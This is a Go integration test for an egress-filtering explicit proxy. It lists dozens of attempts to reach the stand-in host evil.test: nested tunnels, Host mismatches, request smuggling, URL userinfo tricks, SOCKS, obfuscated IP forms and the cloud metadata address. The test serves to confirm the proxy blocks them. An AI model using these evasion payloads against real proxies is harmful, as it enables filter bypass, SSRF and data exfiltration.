package integration

import (
	"fmt"
	"testing"
)

// proxyPrelude has helpers of attempts with the explicit proxy.
const proxyPrelude = `
def lines(text):
    return text.replace("MARK", mark).replace("\n", "\r\n").encode("latin-1")
def proxy(*requests, to="198.18.0.1"):
    # The answer to the last one.
    s = connect(to, 3128)
    s.settimeout(4)
    got = b""
    for r in requests:
        got = b""
        s.sendall(lines(r) if isinstance(r, str) else r)
        while not (b"\r\n\r\n" in got and (b"end of answer" in got or not got.startswith(b"HTTP/1.1 200") or r[:7] == "CONNECT")):
            part = s.recv(65536)
            got += part
            if not part or got[:1] in b"\x15\x16":
                break
        if got.startswith(b"HTTP/1.1 4"):
            return got
    return got if got[:1] != b"\x15" else None
ok = "GET / HTTP/1.1\nHost: good.test\n\n"
def tunnel(name, *requests):
    return proxy("CONNECT %s HTTP/1.1\nHost: %s\n\n" % (name, name), *requests)
def via(url, host=None, method="GET"):
    return proxy("%s %s HTTP/1.1\nHost: %s\nX: MARK\n\n" % (method, url, host or url.split("/")[2]))
`

// The explicit proxy is no other way out than the captured connections.
func TestAttackByTheExplicitProxy(t *testing.T) {
	need(t, world())
	a := newArena(t)
	a.prelude = tlsPrelude + proxyPrelude
	attempts := []attempt{
		{name: "a tunnel with tls", code: `tunnel("good.test:443", hello(g))`, works: true},
		{name: "a tunnel in upper case", code: `tunnel("GOOD.test.:443", hello(g))`, works: true},
		{name: "a tunnel with a request", code: `tunnel("good.test:80", "GET / HTTP/1.1\nHost: good.test\n\n")`, works: true},
		{name: "a request", code: `via("http://good.test/")`, works: true},
		{name: "a request over ipv6", code: `proxy("GET http://good.test/ HTTP/1.1\nHost: good.test\n\n", to="fd53::1")`, works: true},
		{name: "requests for two names", code: `proxy("GET http://good.test/ HTTP/1.1\nHost: good.test\n\n", "GET http://a.good.test/ HTTP/1.1\nHost: a.good.test\n\n")`, works: true},
		{name: "another name in a tunnel", code: `tunnel("good.test:443", hello())`},
		{name: "another allowed name in a tunnel", code: `tunnel("good.test:443", record(handshake(sni(b"a.good.test"), marked())))`},
		{name: "no name in a tunnel", code: `tunnel("good.test:443", record(handshake(marked())))`},
		{name: "a warning in a tunnel", code: `tunnel("good.test:443", record(b"\1\x5a", 21) + hello())`},
		{name: "another host in a tunnel", code: `tunnel("good.test:80", "GET /MARK HTTP/1.1\nHost: evil.test\n\n")`},
		{name: "an absolute request in a tunnel", code: `tunnel("good.test:80", "GET http://evil.test/MARK HTTP/1.1\nHost: evil.test\n\n")`},
		{name: "a tunnel in a tunnel", code: `tunnel("good.test:80", "CONNECT evil.test:443 HTTP/1.1\nHost: evil.test:443\n\n", "MARK")`},
		{name: "another host later in a tunnel", code: `tunnel("good.test:80", ok, "GET /MARK HTTP/1.1\nHost: evil.test\n\n")`},
		{name: "bytes behind a tunnel's head", code: `proxy(lines("CONNECT good.test:443 HTTP/1.1\nHost: good.test:443\n\n") + hello(), b"")`},
		{name: "a tunnel in pieces", code: `tcp("198.18.0.1", 3128, *one(lines("CONNECT evil.test:443 HTTP/1.1\nHost: evil.test:443\n\n")), pause=0.001)`},
		{name: "a tunnel with another host", code: `proxy("CONNECT good.test:443 HTTP/1.1\nHost: evil.test:443\n\n", hello())`},
		{name: "a tunnel of version 1.0 to evil", code: `proxy("CONNECT evil.test:443 HTTP/1.0\n\n", hello())`},
		{name: "a tunnel with a path", code: `proxy("CONNECT http://evil.test:443/ HTTP/1.1\nHost: evil.test:443\n\n", hello())`},
		{name: "a request for another host", code: `via("http://evil.test/MARK")`},
		{name: "a request with another host", code: `via("http://good.test/MARK", "evil.test")`},
		{name: "a request with two hosts", code: `proxy("GET http://good.test/MARK HTTP/1.1\nHost: good.test\nHost: evil.test\n\n")`},
		{name: "a request with an encrypted scheme", code: `via("https://good.test/MARK")`},
		{name: "a request of another protocol", code: `via("ftp://good.test/MARK")`},
		{name: "a request for another port", code: `via("http://good.test:8080/MARK")`},
		{name: "a request with a user", code: `via("http://good.test@evil.test/MARK", "good.test")`},
		{name: "a request with a backslash", code: `via("http://evil.test\\@good.test/MARK", "good.test")`},
		{name: "a request without a scheme", code: `via("//evil.test/MARK", "evil.test")`},
		{name: "a request for a path of evil", code: `proxy("GET /MARK HTTP/1.1\nHost: evil.test\n\n")`},
		{name: "another host later", code: `proxy("GET http://good.test/ HTTP/1.1\nHost: good.test\n\n", "GET http://evil.test/MARK HTTP/1.1\nHost: evil.test\n\n")`},
		{name: "another host at once", code: `proxy("GET http://good.test/ HTTP/1.1\nHost: good.test\n\nGET http://evil.test/MARK HTTP/1.1\nHost: evil.test\n\n", "")`},
		{name: "another host in a body", code: `proxy("POST http://good.test/ HTTP/1.1\nHost: good.test\nContent-Length: 0\n\nGET http://evil.test/MARK HTTP/1.1\nHost: evil.test\n\n", "")`},
		{name: "a tunnel later", code: `proxy("GET http://good.test/ HTTP/1.1\nHost: good.test\n\n", "CONNECT evil.test:443 HTTP/1.1\nHost: evil.test:443\n\n", hello())`},
		{name: "a length and chunks", code: `proxy("POST http://good.test/MARK HTTP/1.1\nHost: good.test\nContent-Length: 4\nTransfer-Encoding: chunked\n\n0\n\n")`},
		{name: "a websocket to evil", code: `proxy("GET http://evil.test/MARK HTTP/1.1\nHost: evil.test\nUpgrade: websocket\nConnection: upgrade\n\n")`},
		{name: "an option of all", code: `proxy("OPTIONS * HTTP/1.1\nHost: evil.test\nX: MARK\n\n")`},
		{name: "tls to the proxy", code: `talk(hello(), to="198.18.0.1", port=3128)`},
		{name: "a tunnel without a port", code: `tunnel("good.test", hello())`},
		{name: "socks 5", code: `proxy(b"\5\1\0", b"\5\1\0\3\x09evil.test\0\x50")`},
		{name: "socks 4", code: `proxy(b"\4\1\0\x50\x09\x09\x09\x09evil\0")`},
		{name: "http 2", code: `proxy("PRI * HTTP/2.0\n\nSM\n\n")`},
		{name: "the port of the proxy at another address", code: `get("9.9.9.9", port=3128)`},
		{name: "the port of the proxy at the name", code: `get(good, port=3128)`},
	}
	for _, to := range []string{
		"evil.test:443", "evil.test:80", "9.9.9.9:443", "9.9.9.9:80", "[2600:9::9]:443", "[::ffff:9.9.9.9]:443", "[::ffff:909:909]:443", "[64:ff9b::909:909]:443",
		"[2600:9::9%25lo]:443", "[2600:9::9%lo]:443", "0x09090909:443", "151587081:443", "011.011.011.011:443", "9.9.2313:443", "9.9.9.9.:443", "0x9.9.9.9:443",
		"good.test:22", "good.test:8080", "good.test:0", "good.test:65979", "good.test:+443", "good.test:", ":443", "good.test:443:443", "user@good.test:443",
		"198.18.0.1:3128", "[fd53::1]:3128", "198.18.0.1:53", "198.18.0.1:443", "198.18.1.0:443", "198.18.39.15:443", "198.18.0.2:443", "127.0.0.1:80", "localhost:80",
		"[::1]:80", "0.0.0.0:80", "9.9.9.1:80", "10.0.0.9:80", "169.254.169.254:80", "255.255.255.255:80", "224.0.0.1:80", "good.test.evil.test:443", "evilgood.test:443",
		"*.good.test:443", "good.test\x00.evil.test:443", "xn--god-jua.test:443",
	} {
		attempts = append(attempts, attempt{name: "a tunnel to " + to, code: fmt.Sprintf("tunnel(%q, hello())", to)},
			attempt{name: "a request for " + to, code: fmt.Sprintf(`via("http://%%s/MARK" %% %q)`, to)})
	}
	a.try(t, allowGood, attempts)
	a.onlyArrive(t, usual()...)
}
